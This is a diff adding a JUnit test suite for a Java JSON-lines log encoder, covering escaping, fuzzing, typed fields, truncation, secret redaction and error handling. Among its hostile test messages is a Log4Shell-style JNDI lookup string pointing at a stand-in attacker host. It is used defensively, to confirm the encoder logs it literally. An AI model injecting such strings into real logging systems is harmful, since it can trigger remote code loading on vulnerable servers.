@@ -1,0 +1,203 @@
+package dev.observa.logging;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import ch.qos.logback.classic.Level;
+import ch.qos.logback.classic.LoggerContext;
+import ch.qos.logback.classic.spi.LoggingEvent;
+import com.fasterxml.jackson.databind.JsonNode;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.slf4j.event.KeyValuePair;
+
+class JsonLinesEncoderTest {
+  private final LoggerContext context = new LoggerContext();
+  private final JsonLinesEncoder encoder = new JsonLinesEncoder();
+
+  JsonLinesEncoderTest() {
+    context.setMDCAdapter(new ch.qos.logback.classic.util.LogbackMDCAdapter());
+    encoder.setContext(context);
+    encoder.setServiceName("svc");
+    encoder.start();
+  }
+
+  private LoggingEvent event(String message) {
+    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("test.logger"), Level.INFO, message, null, null);
+    event.setThreadName("main");
+    return event;
+  }
+
+  private String encode(LoggingEvent event) {
+    return new String(encoder.encode(event), StandardCharsets.UTF_8);
+  }
+
+  private static JsonNode parseSingleLine(String encoded) throws Exception {
+    assertThat(encoded).endsWith("\n");
+    String body = encoded.substring(0, encoded.length() - 1);
+    assertThat(body).doesNotContain("\n", "\r", "\u2028", "\u2029");
+    return CapturedLines.JSON.readTree(body);
+  }
+
+  @Test
+  void writesTheFixedFieldsWithMicrosecondUtcTimestamp() throws Exception {
+    JsonNode line = parseSingleLine(encode(event("hello")));
+    assertThat(line.path("timestamp").asText()).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}Z");
+    assertThat(line.path("level").asText()).isEqualTo("INFO");
+    assertThat(line.path("logger").asText()).isEqualTo("test.logger");
+    assertThat(line.path("thread").asText()).isEqualTo("main");
+    assertThat(line.path("message").asText()).isEqualTo("hello");
+    assertThat(line.path("service.name").asText()).isEqualTo("svc");
+    assertThat(line.has("trace_id")).isFalse();
+  }
+
+  static Stream<String> hostileMessages() {
+    return Stream.of("quote \" backslash \\ done", "new\nline", "carriage\rreturn", "tab\there", "nul\u0000byte",
+        "bell\u0007", "del\u007f", "line\u2028separator", "para\u2029graph", "lone \ud800 high", "lone \udc00 low",
+        "emoji 😀 pair", "${jndi:ldap://evil.example/a}", "", "{}", "ünïcödé");
+  }
+
+  @ParameterizedTest
+  @MethodSource("hostileMessages")
+  void hostileMessagesStayOneValidLineAndRoundTrip(String message) throws Exception {
+    JsonNode line = parseSingleLine(encode(event(message)));
+    assertThat(line.path("message").asText()).isEqualTo(message);
+  }
+
+  @Test
+  void generatedMessagesAndFieldsAlwaysParseAndRoundTrip() throws Exception {
+    Random random = new Random(20261124L);
+    for (int i = 0; i < 2000; i++) {
+      String message = randomString(random);
+      String value = randomString(random);
+      String key = randomString(random);
+      LoggingEvent event = event(message);
+      event.addKeyValuePair(new KeyValuePair("k" + i, value));
+      event.addKeyValuePair(new KeyValuePair(key, "by-key"));
+      event.addKeyValuePair(new KeyValuePair("n", random.nextLong()));
+      JsonNode line = parseSingleLine(encode(event));
+      assertThat(line.path("message").asText()).as("case %d", i).isEqualTo(message);
+      assertThat(line.path("k" + i).asText()).as("case %d", i).isEqualTo(value);
+      assertThat(line.path(key).asText()).as("case %d", i).isIn("by-key", message, "INFO", "main", "svc",
+          "test.logger", line.path("timestamp").asText(), value);
+    }
+  }
+
+  private static String randomString(Random random) {
+    int length = random.nextInt(40);
+    StringBuilder s = new StringBuilder(length);
+    for (int j = 0; j < length; j++) {
+      int kind = random.nextInt(6);
+      s.append(switch (kind) {
+        case 0 -> (char) random.nextInt(0x20);
+        case 1 -> "\"\\\u2028\u2029".charAt(random.nextInt(4));
+        case 2 -> (char) (0xd800 + random.nextInt(0x800));
+        case 3 -> (char) (0x80 + random.nextInt(0xff00));
+        default -> (char) (0x20 + random.nextInt(0x5f));
+      });
+    }
+    return s.toString();
+  }
+
+  @Test
+  void typedKeyValuesAreTopLevelAndKeepTheirJsonTypes() throws Exception {
+    LoggingEvent event = event("typed");
+    Map<String, Object> nested = new HashMap<>();
+    nested.put("inner", List.of(1L, "two", true));
+    event.addKeyValuePair(new KeyValuePair("attempt", 3L));
+    event.addKeyValuePair(new KeyValuePair("ratio", 0.5));
+    event.addKeyValuePair(new KeyValuePair("ok", true));
+    event.addKeyValuePair(new KeyValuePair("nan", Double.NaN));
+    event.addKeyValuePair(new KeyValuePair("nested", nested));
+    event.addKeyValuePair(new KeyValuePair("backoff", java.time.Duration.ofSeconds(1)));
+    event.addKeyValuePair(new KeyValuePair("nothing", null));
+    JsonNode line = parseSingleLine(encode(event));
+    assertThat(line.path("attempt").isIntegralNumber()).isTrue();
+    assertThat(line.path("ratio").asDouble()).isEqualTo(0.5);
+    assertThat(line.path("ok").isBoolean()).isTrue();
+    assertThat(line.path("nan").asText()).isEqualTo("NaN");
+    assertThat(line.path("nested").path("inner").get(1).asText()).isEqualTo("two");
+    assertThat(line.path("backoff").asText()).isEqualTo("PT1S");
+    assertThat(line.path("nothing").isNull()).isTrue();
+  }
+
+  @Test
+  void cyclicMapsAndThrowingToStringStillYieldOneLineWithMarkers() throws Exception {
+    Map<String, Object> cyclic = new HashMap<>();
+    cyclic.put("self", cyclic);
+    Object hostile = new Object() {
+      @Override
+      public String toString() {
+        throw new IllegalStateException("nope");
+      }
+    };
+    LoggingEvent event = event("still written");
+    event.addKeyValuePair(new KeyValuePair("cyclic", cyclic));
+    event.addKeyValuePair(new KeyValuePair("hostile", hostile));
+    JsonNode line = parseSingleLine(encode(event));
+    assertThat(line.path("message").asText()).isEqualTo("still written");
+    assertThat(line.path("cyclic").path("self").asText()).isEqualTo("[cycle]");
+    assertThat(line.path("hostile").asText()).contains("toString() failed").contains("IllegalStateException");
+  }
+
+  @Test
+  void veryLongValuesAreTruncatedWithAMarker() throws Exception {
+    encoder.setMaxValueLength(100);
+    JsonNode line = parseSingleLine(encode(event("x".repeat(10_000))));
+    assertThat(line.path("message").asText()).startsWith("x".repeat(100)).endsWith("…[truncated 9900 chars]");
+  }
+
+  @Test
+  void secretKeysAreRedactedCaseInsensitivelyInKeyValuesAndMdc() throws Exception {
+    LoggingEvent event = event("login");
+    event.addKeyValuePair(new KeyValuePair("Password", "hunter2"));
+    event.addKeyValuePair(new KeyValuePair("user", "bryan"));
+    event.setMDCPropertyMap(Map.of("Authorization", "Bearer abc", "request", "r-1"));
+    String encoded = encode(event);
+    assertThat(encoded).doesNotContain("hunter2").doesNotContain("Bearer abc");
+    JsonNode line = parseSingleLine(encoded);
+    assertThat(line.path("Password").asText()).isEqualTo("[REDACTED]");
+    assertThat(line.path("Authorization").asText()).isEqualTo("[REDACTED]");
+    assertThat(line.path("user").asText()).isEqualTo("bryan");
+    assertThat(line.path("request").asText()).isEqualTo("r-1");
+  }
+
+  @Test
+  void exceptionsBecomeAnErrorObjectWithTheStackTraceAsOneString() throws Exception {
+    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("t"), Level.ERROR, "failed",
+        new IllegalStateException("bad\nthing"), null);
+    JsonNode line = parseSingleLine(encode(event));
+    assertThat(line.path("error").path("type").asText()).isEqualTo("java.lang.IllegalStateException");
+    assertThat(line.path("error").path("message").asText()).isEqualTo("bad\nthing");
+    assertThat(line.path("error").path("stack_trace").asText()).contains("JsonLinesEncoderTest");
+  }
+
+  @Test
+  void aFailingEventStillYieldsOneLineWithItsMessageAndAMarker() throws Exception {
+    LoggingEvent event = new LoggingEvent("fqcn", context.getLogger("t"), Level.INFO, "kept", null, null) {
+      @Override
+      public Map<String, String> getMDCPropertyMap() {
+        throw new IllegalStateException("broken MDC");
+      }
+    };
+    JsonNode line = parseSingleLine(encode(event));
+    assertThat(line.path("message").asText()).isEqualTo("kept");
+    assertThat(line.path("encoding_error").asText()).isEqualTo("java.lang.IllegalStateException");
+  }
+
+  @Test
+  void manyLinesAreEachOneObject() throws Exception {
+    List<String> encoded = new ArrayList<>();
+    for (int i = 0; i < 10; i++) {
+      encoded.add(encode(event("line " + i + "\n")));
+    }
+    assertThat(String.join("", encoded).split("\n")).hasSize(10);
+  }
+}
